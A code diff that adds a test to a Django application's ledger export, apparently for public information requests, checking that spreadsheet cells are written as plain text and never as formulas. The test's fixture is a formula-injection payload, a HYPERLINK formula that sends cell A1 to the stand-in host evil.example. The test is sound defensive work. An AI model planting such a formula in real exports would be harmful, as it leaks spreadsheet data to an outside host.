@@ -145,6 +145,21 @@ class TestActionsThroughViews:
         flat = " ".join(str(v) for row in wb.active.iter_rows(values_only=True) for v in row)
         assert "张三" not in flat and req.tracking_number in flat
 
+    def test_xlsx_cells_never_run_as_formulas(self, make_case, as_user):
+        """An applicant's description is exported as typed, never as a formula (OWASP CSV
+        injection): gongkai.core.spreadsheet.safe_cell."""
+        from io import BytesIO
+
+        from openpyxl import load_workbook
+
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+        make_case(day="2025-06-03", description=evil)
+        r = as_user("clerk").get(reverse("inforequests:ledger") + "?export=xlsx")
+        wb = load_workbook(BytesIO(r.content))
+        cells = [c for row in wb.active.iter_rows() for c in row]
+        assert not [c for c in cells if c.data_type == "f"]
+        assert "'" + evil in [c.value for c in cells]
+
     def test_table3_page(self, make_case, as_user):
         make_case(day="2025-06-03")
         r = as_user("clerk").get(reverse("inforequests:table3") + "?year=2025")
